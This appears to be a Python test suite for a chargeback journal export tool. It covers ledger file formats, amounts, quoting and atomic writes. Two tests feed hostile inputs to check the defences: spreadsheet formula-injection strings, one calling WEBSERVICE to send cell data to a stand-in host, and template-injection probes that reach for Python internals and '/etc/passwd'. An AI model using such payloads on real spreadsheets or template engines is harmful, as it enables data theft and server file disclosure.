"""Files of journals: each format's own columns, text that is no formula, exact amounts, all of it or nothing."""

from __future__ import annotations

from decimal import Decimal

import pytest

from clearfacts_assets.chargeback.journals.answers import AnswerUnreadable, read_answers
from clearfacts_assets.chargeback.journals.files import prepare
from clearfacts_assets.chargeback.journals.formats import FORMATS, file_name, format_of
from clearfacts_assets.chargeback.journals.formats.template import TemplateFailed
from clearfacts_assets.chargeback.journals.posting import Wording
from clearfacts_assets_tests.fixtures.journals import cells, journal, part, records, written

FORMULA = ("=", "+", "-", "@", "\t", "\r")


def two():
    return journal(part("4.80"), part("2.97", service="Storage", fund_org="BIO-000002", charges=3))


def test_case_21_amounts_of_different_precision_add_up_on_both_sides():
    rows = records(journal(part("7.77")), "gl")
    assert [(row["Debit"], row["Credit"], row["Fund"], row["Account"]) for row in rows] == [
        ("7.77", "", "000001", "54100"),
        ("", "7.77", "CLOUD", "54100"),
    ]


def test_standard_and_summary_have_the_reference_products_columns_first():
    assert cells(two(), "standard")[0][:7] == [
        *("BillingPeriod", "PIEmail", "ProjectID", "FundOrg", "ServiceName", "Amount", "ResourceCount"),
    ]
    rows = records(two(), "standard")
    assert [(row["FundOrg"], row["ServiceName"], row["Amount"], row["ResourceCount"]) for row in rows] == [
        ("BIO-000001", "Virtual Machines", "4.80", "1"),
        ("BIO-000002", "Storage", "2.97", "3"),
    ]
    assert [(row["FundOrg"], row["TotalAmount"], row["Currency"]) for row in records(two(), "summary")] == [
        ("BIO-000001", "4.80", "USD"),
        ("BIO-000002", "2.97", "USD"),
    ]


def test_gl_fills_the_reference_and_the_fiscal_period():
    row = records(two(), "gl")[0]
    assert (row["Reference ID"], row["Statement"], row["FiscalYear"], row["FiscalPeriod"], row["AccountingDate"]) == (
        *("J-2025-03-0001-00001", "S-2025-03-0001", "2025", "3", "2025-03-31"),
    )


def test_banner_begins_with_a_header_record_whose_amount_is_the_total_of_all():
    rows = records(two(), "banner", preset={"chart": "U", "rule_class": "JE15", "document_code": "CB000001"})
    assert [(row["REC_TYPE"], row["TRANS_AMT"], row["DR_CR_IND"]) for row in rows] == [
        ("1", "15.54", ""),
        ("2", "4.80", "D"),
        ("2", "4.80", "C"),
        ("2", "2.97", "D"),
        ("2", "2.97", "C"),
    ]
    assert (rows[1]["COAS_CODE"], rows[1]["RUCL_CODE"], rows[1]["DOC_CODE"], rows[1]["TRANS_DATE"]) == (
        *("U", "JE15", "CB000001", "31-MAR-2025"),
    )
    assert (rows[1]["FUND_CODE"], rows[1]["ORGN_CODE"], rows[1]["ACCT_CODE"]) == ("000001", "BIO", "54100")


def test_workday_has_a_row_a_line_with_the_headers_key():
    rows = records(two(), "workday", preset={"company": "EXU"})
    assert [(row["HeaderKey"], row["LineOrder"], row["DebitAmount"], row["CreditAmount"]) for row in rows] == [
        ("J-2025-03-0001", "1", "4.80", ""),
        ("J-2025-03-0001", "2", "", "4.80"),
        ("J-2025-03-0001", "3", "2.97", ""),
        ("J-2025-03-0001", "4", "", "2.97"),
    ]
    assert (rows[0]["Company"], rows[0]["LedgerAccount"], rows[0]["Fund"], rows[0]["CostCenter"]) == (
        *("EXU", "54100", "000001", "BIO"),
    )


def test_peoplesoft_has_records_h_l_and_c_whose_amounts_come_to_nothing():
    rows = cells(two(), "peoplesoft", preset={"business_unit": "EX001"})
    assert [row[0] for row in rows] == ["H", "L", "L", "L", "L", "C"]
    assert [row[10] for row in rows[1:-1]] == ["4.80", "-4.80", "2.97", "-2.97"]
    assert rows[-1] == ["C", "EX001", "USD", "4", "7.77", "7.77"]
    assert rows[0][:6] == ["H", "EX001", "NEXT", "03312025", "ACTUALS", "CBK"]


def test_csv_says_everything_of_each_line():
    row = records(two(), "csv")[0]
    assert (row["side"], row["amount"], row["fund"], row["orgn"], row["journal"], row["kind"]) == (
        *("D", "4.80", "000001", "BIO", "J-2025-03-0001", "charges"),
    )


def test_bug_1_the_first_debit_stands_on_a_line_of_its_own():
    lines = written(two(), "template").splitlines()
    assert lines[0] == "Fund,Orgn,Account,Program,Activity,Location,Debit,Credit,Description,Reference ID"
    assert lines[1].startswith("000001,BIO,54100,,,,4.80,,aws 2025-03 Research Computing Char,J-2025-03-0001-00001")
    assert [line.split(",")[6:8] for line in lines[1:]] == [["4.80", ""], ["", "4.80"], ["2.97", ""], ["", "2.97"]]
    assert written(two(), "template").endswith("00004\n")


def own_template(folder, text, name="own.csv"):
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def test_a_template_knows_the_reference_products_variables(tmp_path):
    names = (
        *("fund_org", "fund", "orgn", "account", "amount", "is_debit", "is_credit", "description", "source_name"),
        *("period", "pi_email", "project_id", "reference_id", "program", "activity", "location"),
    )
    body = "|".join("{{ e." + one + " }}" for one in names)
    path = own_template(tmp_path, "{% for e in entries %}" + body + "\n{% endfor %}{{ period }} {{ config.currency }}")
    wording = Wording("a description of more than thirty-five characters", "c")
    said = written(journal(part("4.80"), wording=wording), "template", template=path).splitlines()
    assert said[0].split("|") == [
        *("BIO-000001", "000001", "BIO", "54100", "4.80", "True", "False"),
        *(wording.debit, "aws", "2025-03", "ada@bio.example.edu", "genome", "J-2025-03-0001-00001", "", "", ""),
    ]
    assert said[2] == "2025-03 USD"


def test_a_templates_usual_filters_are_exact(tmp_path):
    huge = "123456789012345678.91"
    text = '{%- for e in entries %}{{ "%.2f"|format(e.amount) }};{{ "abcdefgh"|truncate_desc(3) }} {% endfor %}'
    said = written(journal(part(huge)), "template", template=own_template(tmp_path, text))
    assert said.split() == [f"{huge};abc", f"{huge};abc"]


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("x\n{{ entries[0].nobody }}", "own.csv, line 2: "),
        ("{% for %}", "own.csv, line 1: "),
        ("{{ ''.__class__.__mro__ }}", "own.csv, line 1: access to attribute '__class__'"),
        ("{{ entries.append(1) }}", "own.csv, line 1: "),
        ("{% include '/etc/passwd' %}", "/etc/passwd is not in "),
        ("{{ 1 / 0 }}", "own.csv, line 1: "),
    ],
)
def test_a_template_that_fails_or_reaches_out_names_its_line(tmp_path, text, told):
    with pytest.raises(TemplateFailed) as failed:
        written(two(), "template", template=own_template(tmp_path, text))
    assert str(failed.value).startswith(told)


@pytest.mark.parametrize("name", FORMATS)
def test_case_26_no_text_begins_a_formula_and_amounts_stay_numbers(name):
    hostile = ('=WEBSERVICE("http://x/?"&A1)', "@SUM(1)", "\t=1+1", "-cmd", "+1", "\rx")
    one = journal(
        *(
            part(
                "-5.00" if number == 1 else "4.00",
                project_id=text,
                pi_email=text,
                service=text,
                statement=f"S-{number}",
            )
            for number, text in enumerate(hostile)
        ),
        wording=Wording("{project_id}", "{project_id}"),
    )
    rows = cells(one, name)
    for row in rows:
        for cell in row:
            if not cell.lstrip("-").replace(".", "").isdecimal():
                assert not cell.startswith(FORMULA), (name, cell)
    assert any(cell.startswith("'=WEBSERVICE") for row in rows for cell in row) or name == "banner"
    raw = written(one, name, neutralise=False)
    assert "'=" not in raw


def test_case_26_amounts_are_never_touched():
    assert [row["Amount"] for row in records(journal(part("-5.00")), "standard")] == ["-5.00"]


def test_bug_13_cells_with_commas_quotes_and_breaks_are_quoted():
    name = 'a "b", c\nd'
    one = journal(part(project_id=name), wording=Wording("{project_id}", "{project_id}"))
    for format_ in ("standard", "gl", "csv", "workday", "template"):
        rows = cells(one, format_)
        assert any(name in row for row in rows), format_


def test_an_unknown_format_is_told():
    with pytest.raises(LookupError, match="there is no format 'xls'"):
        format_of("xls")


def test_files_have_a_name_for_each_batch_and_format():
    assert file_name(two(), "gl") == "J-2025-03-0001_USD_gl.csv"


def test_many_rows_are_written_whole():
    one = journal(*(part("1.00", statement=f"S-{number:05d}") for number in range(1700)))
    rows = records(one, "gl")
    assert (len(rows), sum(Decimal(row["Debit"] or 0) for row in rows)) == (3400, 1700)


def test_a_file_is_there_whole_or_not_at_all(tmp_path):
    path = tmp_path / "drop" / "j.csv"
    prepared = prepare(path, ["a", "b"])
    assert [one.name[0] for one in path.parent.iterdir()] == ["."]
    prepared.put()
    assert (path.read_text(), [one.name for one in path.parent.iterdir()]) == ("ab", ["j.csv"])

    def broken():
        yield "half"
        raise OSError("the disk is full")

    with pytest.raises(OSError, match="full"):
        prepare(path, broken())
    dropped = prepare(path, ["c"])
    dropped.drop()
    assert (path.read_text(), len(list(path.parent.iterdir()))) == ("ab", 1)


def test_answers_are_read_by_their_columns():
    found = read_answers(
        b"\xef\xbb\xbfJournal,Line,Status,Message,Reference\nJ-1,,Posted,,D1\nJ-2,3,REJECTED,closed,\n\n"
    )
    assert [(one.number, one.line, one.verdict, one.message, one.reference) for one in found] == [
        ("J-1", None, "posted", "", "D1"),
        ("J-2", 3, "refused", "closed", ""),
    ]


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"", "no column for number"),
        (b"journal,status\n", "has no rows"),
        (b"journal,status\nJ-1,maybe\n", "line 2: the status 'maybe'"),
        (b"journal,line,status\nJ-1,x,ok\n", "line 2: 'x' is no line's number"),
        (b"journal,status\n,ok\n", "line 2: it names no journal"),
        (b"\xff", "not UTF-8"),
        (b'journal,status\n"J-1,ok\n', "line "),
    ],
)
def test_an_answer_that_cannot_be_understood_is_refused(content, told):
    with pytest.raises(AnswerUnreadable, match=told):
        read_answers(content)
